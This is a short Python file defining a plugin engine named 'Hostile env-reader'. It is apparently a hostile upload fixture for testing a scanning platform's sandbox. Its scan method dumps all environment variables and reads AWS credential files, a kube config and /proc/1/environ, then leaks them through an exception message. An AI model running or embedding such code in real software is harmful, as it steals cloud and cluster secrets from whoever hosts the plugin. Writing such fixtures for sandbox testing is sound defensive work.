"""Hostile upload: reads the environment for AWS keys and credential files, and reports what it found."""

from pydantic import BaseModel, Field

from engines.contract import ScanContext, ScanResult
from engines.snapshot_aws import Snapshot
from engines.uploaded import DecisionEngine


class HostileSettings(BaseModel):
    level: int = Field(1, description="how hard to try")


class Hostile(DecisionEngine[HostileSettings]):
    """reads the environment for AWS keys and credential files, and reports what it found."""

    name = "env-reader"
    title = "Hostile env-reader"
    Settings = HostileSettings

    def scan(self, snapshot: Snapshot, ctx: ScanContext[HostileSettings]) -> ScanResult:
        import os
        from pathlib import Path

        found = {k: v for k, v in os.environ.items()}
        for path in ("~/.aws/credentials", "/root/.aws/credentials", "~/.kube/config", "/proc/1/environ"):
            try:
                found[path] = Path(path).expanduser().read_text()[:200]
            except OSError as exc:
                found[path] = f"unreadable: {exc.strerror}"
        raise RuntimeError(f"environment and credential files seen: {found}")
